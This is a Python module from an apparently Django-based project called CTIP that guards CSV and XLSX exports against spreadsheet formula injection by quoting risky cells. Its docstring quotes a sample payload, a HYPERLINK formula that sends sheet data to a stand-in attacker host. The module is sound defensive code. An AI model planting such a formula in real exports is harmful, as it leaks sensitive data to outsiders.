"""Cells of the CSV and XLSX files CTIP writes are never run as formulas (formula injection).

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a formula:
a survivor's name such as =HYPERLINK("http://evil.example/?x="&A1,"Click") would send the sheet's
data away when a ministry opens the export. Every writer passes its cells through `safe_cell`,
which puts a single quote before such a text — the mark spreadsheets read as "this is text".
Numbers, dates and empty cells are left as they are, and so is a text that is a plain decimal
number ("-3"), which no spreadsheet can run.

The rule is one-to-one: a text that already starts with quotes before a dangerous character gets
one quote more, so `unquote_cell(safe_cell(text)) == text` for every text and an export imported
again gives back exactly what was exported.
"""

import csv
import re
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

from django.utils.functional import Promise

QUOTE = "'"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Quotes (any number, even none) then a dangerous character: quoted on the way out.
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
# One quote or more then a dangerous character: one quote taken off on the way back.
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")

_KEPT_TYPES = (int, float, Decimal, date, datetime, time)  # bool is an int


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may show it without running it: dangerous texts quoted."""
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = str(value) if isinstance(value, Promise) or not isinstance(value, str) else value
    if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def unquote_cell(text: str) -> str:
    """The text `safe_cell` was given, from what it wrote (other texts are returned as they are)."""
    return text[1:] if _QUOTED.match(text) else text


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


class _SafeWriter:
    """A csv writer whose every cell goes through `safe_cell`."""

    def __init__(self, writer):
        self._writer = writer
        self.dialect = writer.dialect

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(f, *args, **kwargs) -> _SafeWriter:
    """`csv.writer` that neutralises formulas."""
    return _SafeWriter(csv.writer(f, *args, **kwargs))


class CsvDictWriter(csv.DictWriter):
    """`csv.DictWriter` that neutralises formulas (header included)."""

    def __init__(self, f, fieldnames, *args, **kwargs):
        super().__init__(f, fieldnames, *args, **kwargs)
        self.writer = _SafeWriter(self.writer)


def append_row(sheet, values) -> None:
    """`sheet.append` for openpyxl: a text starting with "=" would otherwise become a formula."""
    sheet.append(safe_row(values))
